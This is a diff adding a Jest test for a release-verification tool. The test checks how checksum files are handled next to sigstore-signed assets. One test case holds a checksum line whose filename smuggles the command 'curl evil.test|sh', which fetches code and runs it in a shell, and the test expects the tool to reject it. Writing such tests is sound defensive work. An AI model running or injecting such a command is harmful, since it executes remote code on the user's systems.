@@ -88,3 +88,16 @@ describe('a signature of PGP', () => {
     expect([report.outcome, report.subjects.map((subject) => [subject.outcome, reasons(subject)])]).toEqual([outcome, [['passed', []], ...(outcome === 'failed' ? [['failed', ['EVIDENCE_REJECTED FORMAT_UNKNOWN']]] : [])]]);
   });
 });
+
+describe('a checksum file', () => {
+  it.each([
+    ['that lists an asset is a list', `${SHA256}  a.bin\n`, 'passed', []],
+    ['that lists nothing of the release has to pass as every file', `${'0'.repeat(64)}  x;curl evil.test|sh\n`, 'failed', ['EVIDENCE_REJECTED SUBJECT_MISMATCH']],
+  ])('%s', async (_what, text, outcome, why) => {
+    const repository = desk.github.repository('acme/app');
+    const built = await desk.sigstore.sign({ statement: aStatement({ subjects: [{ name: 'a.bin', bytes: BYTES }], predicate: slsaPredicate({}) }) }, aGithubIdentity({}));
+    repository.release('v1', { 'a.bin': BYTES, 'install-checksums.txt': text, 'a.bin.sigstore.json': JSON.stringify(built.bundle) });
+    const report = await desk.report({ release: 'v1', repo: 'acme/app' });
+    expect([report.outcome, report.subjects.flatMap(reasons)]).toEqual([outcome, why]);
+  });
+});
